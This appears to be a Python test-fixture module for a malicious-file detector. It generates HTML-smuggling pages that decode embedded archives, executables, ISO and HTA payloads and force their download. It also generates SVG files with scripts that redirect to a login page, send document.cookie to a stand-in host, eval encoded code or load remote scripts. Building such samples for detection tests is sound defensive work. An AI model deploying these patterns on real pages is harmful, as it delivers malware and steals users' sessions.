"""Web pages and drawings that carry files or scripts."""

from base64 import b64encode

from tests.samples.archives import iso_of
from tests.samples.files import pe, shortcut, zip_of
from tests.samples.hostile.cases import Case, Severity, single

HIGH, MEDIUM = Severity.HIGH, Severity.MEDIUM
ARCHIVE = zip_of({"Offer.lnk": shortcut("C:\\a.exe", "/x"), "b.dll": pe(library=True), "fill": bytes(range(256)) * 40})


def _text(body: bytes) -> str:
    return b64encode(body).decode()


def cases() -> list[Case]:
    """HTML smuggling in its spellings, and SVG with scripts."""
    return [*_smuggling(), *_drawings()]


def _smuggling() -> list[Case]:
    out = "var u=URL.createObjectURL(new Blob([b]));var a=document.createElement('a');a.href=u;a.download='Offer.zip';a.click();"
    numbers = ",".join(str(value) for value in pe())
    bodies = [
        f"<script>var b=Uint8Array.from(atob('{_text(ARCHIVE)}'),c=>c.charCodeAt(0));{out}</script>",
        f"<script>var b=new Uint8Array([{numbers}]);{out}</script>",
        f"<script>var h='{pe().hex()}';var b=new Uint8Array(h.match(/../g).map(x=>parseInt(x,16)));{out}</script>",
        f"<a id=d download='Offer.zip' href='data:application/zip;base64,{_text(ARCHIVE)}'>x</a><script>d.click()</script>",
        f"<script>var b=atob('{_text(iso_of({'a.lnk': b'x'}))}');{out.replace('.zip', '.iso')}</script>",
        f"<body onload='go()'><script>function go(){{var b=atob('{_text(bytes(range(1, 250)) * 40)}');{out.replace('Offer.zip', 'Offer.hta')}}}</script>",
        f"<script>var b=new Uint8Array(atob('{_text(ARCHIVE)}').split('').map(c=>c.charCodeAt(0)));navigator.msSaveOrOpenBlob(new Blob([b]),'a.zip')</script>",
        f"<embed src='data:image/svg+xml;base64,AA'><script>var b='{_text(ARCHIVE)}';b=Uint8Array.from(atob(b),c=>c.charCodeAt());{out}</script>",
        f"<a href='data:application/octet-stream;base64,{_text(pe())}'>Open</a>",
    ]
    return [
        single(
            "page that carries a file",
            f"invite{n}.html",
            f"<!DOCTYPE html><html><title>Invitation</title>{body}</html>".encode(),
            "html.smuggling",
        )
        for n, body in enumerate(bodies)
    ]


def _drawings() -> list[Case]:
    insides = [
        ("<script>window.location='https://files.example.net/login'</script>", HIGH),
        ("<script><![CDATA[fetch('https://files.example.net/'+document.cookie)]]></script>", HIGH),
        ("<script>eval(atob('MQ=='))</script>", HIGH),
        (
            "<foreignObject width='9' height='9'><form xmlns='http://www.w3.org/1999/xhtml'><input type=\"password\"/></form><script>1</script></foreignObject>",
            HIGH,
        ),
        ("<script xlink:href='//files.example.net/a.js'/>", MEDIUM),
        ("<foreignObject><iframe src='https://files.example.net'/></foreignObject>", MEDIUM),
        ("<a xlink:href='javascript:void(0)'><rect width='9' height='9'/></a>", MEDIUM),
        ("<animate attributeName='href' values='javascript:void(0)'/>", MEDIUM),
        ("<image href='x' onerror='location=\"https://files.example.net\"'/>", HIGH),
        ("<script>new WebSocket('wss://files.example.net')</script>", HIGH),
        (f"<script>var u=URL.createObjectURL(new Blob([atob('{_text(ARCHIVE)}')]))</script>", HIGH),
    ]
    return [
        single(
            "drawing with a script",
            f"logo{n}.svg",
            f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='x'>{inside}</svg>".encode(),
            "svg.script",
            least=least,
        )
        for n, (inside, least) in enumerate(insides)
    ]
